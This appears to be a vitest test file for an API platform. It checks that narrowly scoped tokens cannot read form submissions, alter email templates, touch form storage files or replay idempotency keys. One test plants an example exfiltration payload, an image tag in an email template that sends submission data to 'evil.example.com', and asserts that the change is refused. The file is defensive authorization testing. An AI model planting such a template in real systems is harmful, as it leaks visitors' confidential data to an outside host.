/** What visitors sent, and operators whose tokens reach what forms use (messages, files) and not forms (CWE-863). */
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Api, Json } from '../../test/support/api.ts';
import { createTestPlatform, type TestPlatform } from '../../test/support/platform.ts';
import { waitFor } from '../../test/support/wait-for.ts';
import { createForm } from './requests.ts';

let platform: TestPlatform;
beforeAll(async () => {
  platform = await createTestPlatform();
});
afterAll(() => platform?.close());

const narrowed = async (...scopes: string[]): Promise<Api> => {
  const made = await platform.admin.post('/api-tokens', { name: scopes.join(), scopes });
  return platform.adminAnonymous.with({ credential: made.body.token });
};
const codeOf = async (
  answer: Promise<{ readonly status: number; readonly body: Json }>,
): Promise<unknown> => {
  const { status, body } = await answer;
  return `${status} ${body?.code}`;
};
const exceeded = '403 SCOPE_EXCEEDED';

it('are not read in mails by a token for messages alone, nor sent elsewhere by a template that forms use', async () => {
  const { admin, client } = platform;
  const lines = { name: 'Lines', subject: 's', body: '{{data}}{{> footer}}' };
  await admin.put('/communications/partials/footer', { body: 'f' });
  const template = (await admin.post('/email/templates', lines)).body;
  const form = await createForm(admin, {
    fields: [
      { name: 'email', type: 'email', required: true },
      { name: 'message', type: 'text' },
    ],
    ...{ emailField: 'email', forwardTo: 'office@example.com', template: 'Lines' },
    autoReply: { subject: 'Yours', body: 'You said {{message}}' },
  });
  const said = { email: 'ada@example.com', message: 'in confidence' };
  expect((await client.post(`/forms/submit/${form._id}`, said)).status).toBe(200);
  const communications = await narrowed('communications');
  const both = await narrowed('communications', 'forms');
  for (const recipient of ['ada@example.com', 'office@example.com']) {
    const query = { recipient, status: 'captured' };
    const [found] = await waitFor(
      async () => {
        const { messages } = (await communications.get('/communications/messages', { query })).body;
        return messages.length > 0 ? messages : undefined;
      },
      { what: `the message to ${recipient}` },
    );
    const path = `/communications/messages/${found._id}`;
    expect(await codeOf(communications.get(path)), recipient).toBe(exceeded);
    const { content } = (await both.get(path)).body;
    expect(content.text).toContain('in confidence');
    expect(content).not.toHaveProperty('module');
  }

  const stolen = { body: '<img src="https://evil.example.com/{{data}}">' };
  const changes = (api: Api) => [
    () => api.patch(`/email/templates/${template._id}`, stolen),
    () => api.put('/communications/partials/footer', stolen),
    () => api.delete(`/email/templates/${template._id}`),
  ];
  for (const change of changes(communications)) expect(await codeOf(change())).toBe(exceeded);
  const moved = { emailTemplateId: template._id, deleteSource: true };
  const moving = communications.post('/communications/templates/migrate-from-email', moved);
  expect(await codeOf(moving)).toBe(exceeded);
  const state = { modules: { communications: { emailTemplates: [{ ...lines, ...stolen }] } } };
  const importing = await narrowed('core', 'communications', 'write');
  expect(await codeOf(importing.post('/state/import', state))).toBe(exceeded);
  for (const change of changes(both)) expect((await change()).status).toBe(200);
  // Nor by another one of its name.
  const other = await communications.post('/email/templates', { ...lines, name: 'Others' });
  expect(other.status, other.text).toBe(200);
  const renamed = communications.patch(`/email/templates/${other.body._id}`, { name: 'Lines' });
  expect(await codeOf(renamed)).toBe(exceeded);
  expect(await codeOf(communications.post('/email/templates', lines))).toBe(exceeded);
  expect((await both.post('/email/templates', lines)).status).toBe(200);
});

it('have files of which a token for storage alone is told nothing, and with which it does nothing', async () => {
  const { admin } = platform;
  await admin.patch('/config/storage', { config: { trash: { days: 1 } } });
  const container = 'module-forms';
  const [kept, deleted] = [
    { container, name: 'large.txt', data: btoa('of a visitor') },
    { container, name: 'deleted.txt', data: btoa('of a visitor') },
  ];
  await admin.post('/storage/files', kept);
  const { _id: trashed } = (await admin.post('/storage/files', deleted)).body;
  await admin.delete(`/storage/files/${trashed}`);
  await admin.post('/storage/folders', { container, name: 'of-forms/' });
  const { containers } = (await admin.get('/storage/containers')).body;
  const { _id } = containers.find(({ name }: Json) => name === container);
  const told = async (api: Api): Promise<number[]> => [
    (await api.get('/storage/insights')).body.largest.length,
    (await api.get('/storage/trash')).body.filesCount,
    (await api.get('/storage/folders')).body.folderCount,
  ];
  const storage = await narrowed('storage');
  const both = await narrowed('storage', 'forms');
  expect(await told(storage)).toEqual([0, 0, 0]);
  expect(await told(both)).toEqual([1, 1, 1]);
  const { folders } = (await both.get('/storage/folders')).body;
  const changes = (api: Api) => [
    () => api.patch(`/storage/containers/${_id}`, { lifecycle: { deleteAfterDays: 1 } }),
    () => api.delete(`/storage/folders/${folders[0]._id}`),
    () => api.post(`/storage/trash/${trashed}/restore`, {}),
    () => api.delete(`/storage/containers/${_id}?force=true`),
  ];
  for (const change of changes(storage)) expect(await codeOf(change())).toBe(exceeded);
  expect(await codeOf(storage.delete(`/storage/trash/${trashed}`))).toBe(exceeded);
  for (const change of changes(both)) expect((await change()).status).toBe(200);
});

it('are no answer to a token for storage that knows the key of a call of its operator', async () => {
  const file = { container: 'module-forms', name: 'once.txt', data: btoa('of a visitor') };
  const headers = { 'idempotency-key': 'predictable' };
  const both = ['storage', 'forms'];
  const made = await (await narrowed(...both)).post('/storage/files', file, { headers });
  expect(made.status, made.text).toBe(200);
  expect((await (await narrowed('storage')).post('/storage/files', file, { headers })).status).toBe(
    403,
  );
  const renewed = await narrowed(...both.toReversed());
  expect((await renewed.post('/storage/files', file, { headers })).body._id).toBe(made.body._id);
});
